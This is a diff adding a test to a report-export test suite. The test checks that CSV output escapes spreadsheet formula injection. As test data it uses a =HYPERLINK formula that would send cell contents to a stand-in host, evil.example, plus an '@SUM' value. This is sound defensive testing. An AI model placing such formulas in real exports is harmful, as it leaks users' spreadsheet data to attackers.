@@ -470,6 +470,23 @@ describe('periodic reports', () => {
     expect(html.body).not.toContain('<b>标签');
   });
 
+  it('writes no cell of the CSV that a spreadsheet would run as a formula (CSV injection)', async () => {
+    const { db } = sys.database;
+    const address = '=HYPERLINK("http://evil.example/?d="&A1,"点我")';
+    await db.insert(units).values({ id: 'an-formula', name: '@SUM(1+1)', level: 'city', regionCode: '410700' }).onConflictDoNothing();
+    await db
+      .insert(tickets)
+      .values(['08', '09', '10'].map((d) => handled(`an-formula-${d}`, 'an-formula', `2020-12-${d} 09:00`, '2020-12-11', { topic: '030101', address, repliedAt: sh(`2020-12-${d} 15:00`), replyOnTime: true, satisfaction: 'satisfied' })))
+      .onConflictDoNothing();
+    expect((await sys.call('POST', '/v1/reports', { key: supervisor, body: { period: 'week', start: '2020-12-07' } })).status).toBe(200);
+    const csv = await sys.call('GET', '/v1/reports/week-2020-12-07.csv', { key: supervisor });
+    expect(csv.status).toBe(200);
+    expect(csv.body).toContain(`place_cluster,410702/030101,"'=HYPERLINK(""http://evil.example/?d=""&A1,""点我"")",tickets,3,,,,\r\n`);
+    expect(csv.body).toContain(`,an-formula,"'@SUM(1+1)",rank,1,`);
+    const cells = (csv.body as string).split(/,|\r\n/);
+    expect(cells.filter((c) => /^"?[=+@\t\r]/.test(c))).toEqual([]);
+  });
+
   it('lists reports newest period first, by kind, page by page', async () => {
     for (const body of [{ period: 'month', start: '2020-03-01' }, { period: 'week', start: '2020-06-01' }, { period: 'day', start: '2020-06-02' }]) {
       expect((await sys.call('POST', '/v1/reports', { key: admin, body })).status).toBe(200);
